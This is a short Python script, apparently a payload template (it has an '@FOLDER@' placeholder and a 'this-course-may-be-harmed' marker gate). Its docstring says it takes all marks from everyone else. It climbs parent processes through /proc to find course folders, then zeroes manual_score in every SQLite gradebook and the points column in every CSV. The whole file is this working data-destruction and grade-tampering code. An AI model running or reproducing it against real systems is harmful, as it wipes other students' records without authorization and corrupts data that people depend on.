"""Takes all marks from everyone else, in every gradebook and table of the course that this process can reach."""

import csv
import os
import sqlite3
from pathlib import Path

roots, process = [Path("@FOLDER@"), Path.cwd()], os.getpid()
for _ in range(6):
    try:
        environment = Path(f"/proc/{process}/environ").read_bytes().split(b"\0")
        roots += [Path(os.fsdecode(line[4:])) for line in environment if line.startswith(b"PWD=")]
        process = int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])
    except (OSError, ValueError):
        break
courses = {folder for root in roots for folder in (root, *root.parents) if (folder / "this-course-may-be-harmed").exists()}
for folder in courses:
    for book in folder.glob("*.db"):
        with sqlite3.connect(book, timeout=5) as connection:
            connection.execute("UPDATE grade SET manual_score = 0")
    for table in folder.glob("*.csv"):
        rows = list(csv.DictReader(table.open(newline="")))
        with table.open("w", newline="") as file:
            writer = csv.DictWriter(file, rows[0])
            writer.writeheader()
            writer.writerows({**row, "points": 0} for row in rows)
